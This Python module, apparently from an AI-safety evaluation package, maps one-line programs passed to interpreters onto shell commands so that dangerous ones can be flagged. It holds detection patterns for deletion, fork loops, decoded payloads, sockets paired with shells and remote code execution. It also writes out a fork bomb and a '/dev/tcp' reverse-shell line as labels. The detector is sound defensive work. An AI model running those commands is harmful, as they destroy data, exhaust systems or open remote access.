"""Programs of other languages given on the command line, and the shell commands in them."""

import re
from collections.abc import Iterator, Mapping, Sequence

from oilstone_eval.danger.marks import DECODED, REMOTE
from oilstone_eval.danger.outputs import printed
from oilstone_eval.danger.wrappers import INTERPRETERS

_STRING = r"""(?:"((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)')"""
_SYSTEM = re.compile(
    r"(?:system|popen|exec\w*|spawn\w*|call|run|check_output|check_call|shell_exec|passthru|"
    r"getoutput"
    r"|Popen)\s*\(?\s*(?:\[\s*)?" + _STRING + r"((?:\s*,\s*\[?\s*" + _STRING + r")*)"
)
_TICKS = re.compile(r"`([^`]+)`|qx[({/]([^)}/]+)[)}/]|%x[({]([^)}]+)[)}]")
_TREES = re.compile(
    r"(?:rmtree|remove_tree|rm_rf|rm_r|rmdirSync|rmSync|remove_dir_all|removedirs"
    r"|remove_dir|remove_entry\w*|rm)\s*\(?\s*"
    r"(?:\[\s*)?(?:[\w.]+\(\s*)*" + _STRING
)
_UNLINKS = re.compile(
    r"(?:os\.remove|os\.unlink|unlink|File\.delete|unlinkSync)\s*\(?\s*"
    r"(?:(?:glob|Dir\.glob)\s*\(?\s*)?" + _STRING
)
_OPENS = re.compile(r"open\s*\(\s*" + _STRING + r"\s*,\s*[\"'][wa]b?\+?[\"']")
_WALKS = re.compile(
    r"(?s)(?=.*\b(?:remove|unlink|rmtree|delete|rm)\b)"
    r".*?(?:os\.walk|rglob|Path|finddepth|find|Find\.find|glob)\(\s*(?:sub\s*\{[^}]*\}\s*,\s*)?"
    + _STRING
)
_PERL_OPENS = re.compile(r"open\s*\(?\s*[\w $]+,\s*[\"']>+\s*([^\"']+)")
_PRINTS = re.compile(r"^\s*(?:print|puts|say|echo|console\.log)\b\s*\(?\s*" + _STRING)
_LOOSE = re.compile(
    r"(?s)fork\s*(?:\(\s*\))?\s*(?:while|until|for)|(?:while|for|loop)\W.{0,60}(?:\b|_)fork\b"
)
_BASE64 = re.compile(
    r"(?:(?:base64\.)?b64decode|decode_base64|base64_decode|Base64\.decode64|atob)\(\s*b?(['\"])([\w+/=]*)\1\s*\)(?:\.decode\(\))?"
)
_SOCKET = re.compile(r"socket|fsockopen|net\.connect|Socket::INET", re.IGNORECASE)
# A shell by name, or commands that are not written in the program.
_SHELL = re.compile(
    r"/bin/(ba|da|z|k)?sh|cmd\.exe|pty\.spawn|['\"](ba|z)?sh['\"]"
    r"|(popen|system|check_output|getoutput|exec|execSync)\s*\(?\s*[a-z]\w*\s*[,).;}]"
    r"|system\s*\(?\s*\$_"
)
_HOME = re.compile(
    r"os\.path\.expanduser\(\s*['\"]~['\"]\s*\)|(?:pathlib\.)?Path\.home\(\)|Dir\.home"
    r"|os\.(?:environ\[|getenv\()['\"]HOME['\"][\])]|(?:require\(['\"]os['\"]\)|os)\.homedir\(\)"
    r"|process\.env\.HOME|\$?ENV[\[{]['\"]?HOME['\"]?[\]}]"
)
_RUNS_CODE = re.compile(r"\b(?:exec|eval|compile)\s*\(?\s*" + _STRING)
_RUNS_REMOTE = re.compile(
    r"(?s)\b(exec|eval|system|vm\.runInThisContext)\b.*(urlopen|requests\.get|urllib|httpx\.get"
    r"|https?\.get|URI\.open|Net::HTTP|file_get_contents\(\s*['\"]http|LWP|\bget\(\s*['\"]http)"
)


def commands_in(
    name: str, args: Sequence[str], stdin: str | None, files: Mapping[str, str]
) -> Iterator[str]:
    """Yield shell text that says what a one-line program in another language does."""
    code = _code(args, stdin, files)
    if not code:
        return
    code = _BASE64.sub(lambda found: repr(printed("base64", ["-d"], found[2], {})), code)
    code = re.sub(r"([\"'])\s*[+.]\s*\1", "", _HOME.sub("'~'", code))
    code += "".join("\n" + _plain(found[1], found[2]) for found in _RUNS_CODE.finditer(code))
    if code.strip() in (REMOTE, DECODED) or _RUNS_REMOTE.search(code):
        yield REMOTE if code.strip() != DECODED else DECODED
        return
    if name == "tclsh":
        yield from re.findall(r"\bexec\s+(.+)", code)
    for found in _SYSTEM.finditer(code):
        more = re.findall(_STRING, found[3] or "")
        yield " ".join([_plain(found[1], found[2]), *(_plain(*each) for each in more)])
    for found in _TICKS.finditer(code) if name in ("perl", "ruby", "php") else ():
        yield next(filter(None, found.groups()))
    for shape, command in ((_TREES, "rm -rf"), (_UNLINKS, "rm -f"), (_OPENS, ":>")):
        for found in shape.finditer(code):
            yield f"{command} {_plain(found[1], found[2])}"
    yield from (f":> {found[1]}" for found in _PERL_OPENS.finditer(code))
    yield from _alike(code)


def _alike(code: str) -> Iterator[str]:
    """Yield shell text of the same harm as shapes of whole programs."""
    if walked := _WALKS.match(code):
        yield f"rm -rf {_plain(walked[1], walked[2])}"
    if _LOOSE.search(code):
        yield ":(){ :|:& };:"
    if _SOCKET.search(code) and _SHELL.search(code):
        yield "bash -i >& /dev/tcp/host/1"


def said(name: str, args: Sequence[str]) -> str:
    """Return what a one-line program prints, where that is written in it; "" otherwise."""
    found = _PRINTS.match(_code(args, None, {})) if name in INTERPRETERS else None
    return _plain(found[1], found[2]) if found else ""


def _plain(double: str, single: str) -> str:
    return (double or single).replace('\\"', '"').replace("\\'", "'")


def _code(args: Sequence[str], stdin: str | None, files: Mapping[str, str]) -> str:
    """Return the program: after -c or -e, in a file whose content is known, or from the input."""
    for place, word in enumerate(args[:-1]):
        if re.fullmatch(r"-[a-zA-Z0-9]*[cerE]|--eval|--execute|--print|-Command", word):
            return args[place + 1]
    if any(word.startswith("-m") for word in args):
        return ""
    operands = [word for word in args if not word.startswith("-")]
    if operands:
        return files.get(operands[0], "")
    return stdin or ""
